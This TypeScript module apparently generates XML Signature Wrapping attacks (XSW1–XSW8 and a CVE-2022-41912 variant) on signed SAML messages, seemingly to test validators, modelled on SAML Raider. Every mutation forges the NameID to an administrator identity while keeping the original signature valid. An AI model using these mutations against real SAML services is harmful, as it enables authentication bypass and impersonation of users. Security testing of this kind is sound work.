import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';

/**
 * XML Signature Wrapping permutations, the DOM operations of SAML Raider's `XSWHelpers.java`
 * (docs/security-reference.md §1.4). "Evil" means the NameID is changed to a victim's. XSW1–2 attack a signed
 * Response, XSW3–8 a signed Assertion.
 */
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
export const VICTIM = 'admin@example.com';

type Mutation = (doc: Document, response: Element, assertion: Element) => void;

export const XSW: Record<string, Mutation> = {
  XSW1: (_doc, response) => {
    const clone = withoutSignature(response.cloneNode(true) as Element);
    evil(response, '_evil_response_ID');
    signatureOf(response).appendChild(clone);
  },
  XSW2: (_doc, response) => {
    const clone = withoutSignature(response.cloneNode(true) as Element);
    evil(response, '_evil_response_ID');
    response.insertBefore(clone, signatureOf(response));
  },
  XSW3: (_doc, response, assertion) => {
    response.insertBefore(evilClone(assertion, '_evil_assertion_ID'), assertion);
  },
  XSW4: (_doc, response, assertion) => {
    const wrapper = evilClone(assertion, '_evil_assertion_ID');
    response.appendChild(wrapper);
    wrapper.appendChild(assertion);
  },
  XSW5: (_doc, response, assertion) => {
    const copy = withoutSignature(assertion.cloneNode(true) as Element);
    evil(assertion, '_evil_assertion_ID');
    response.appendChild(copy);
  },
  XSW6: (_doc, _response, assertion) => {
    const copy = withoutSignature(assertion.cloneNode(true) as Element);
    evil(assertion, '_evil_assertion_ID');
    signatureOf(assertion).appendChild(copy);
  },
  XSW7: (doc, response, assertion) => {
    const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
    extensions.appendChild(evilClone(assertion, assertion.getAttribute('ID')!));
    response.insertBefore(extensions, assertion);
  },
  XSW8: (doc, _response, assertion) => {
    const copy = withoutSignature(assertion.cloneNode(true) as Element);
    const object = doc.createElementNS(DSIG, 'ds:Object');
    object.appendChild(copy);
    evil(assertion, assertion.getAttribute('ID')!);
    signatureOf(assertion).appendChild(object);
  },
  /** CVE-2022-41912 (crewjam): a second, unsigned assertion after the signed one. */
  'second unsigned assertion': (_doc, response, assertion) => {
    response.appendChild(evilClone(assertion, '_evil_assertion_ID'));
  },
};

/** Applies `mutation` to a signed Response document and serialises it back. */
export function wrap(signedXml: string, mutation: Mutation): string {
  const doc = new DOMParser().parseFromString(signedXml, 'text/xml');
  const response = doc.documentElement!;
  const assertion = response.getElementsByTagNameNS(SAML, 'Assertion')[0]!;
  mutation(doc, response, assertion);
  return new XMLSerializer().serializeToString(doc);
}

function evilClone(assertion: Element, id: string): Element {
  const clone = withoutSignature(assertion.cloneNode(true) as Element);
  evil(clone, id);
  return clone;
}

function evil(el: Element, id: string): void {
  el.setAttribute('ID', id);
  el.getElementsByTagNameNS(SAML, 'NameID')[0]!.textContent = VICTIM;
}

function signatureOf(el: Element): Element {
  return Array.from(el.childNodes).find((n): n is Element => (n as Element).localName === 'Signature')!;
}

function withoutSignature(el: Element): Element {
  const signature = Array.from(el.childNodes).find((n) => (n as Element).localName === 'Signature');
  if (signature) el.removeChild(signature);
  return el;
}
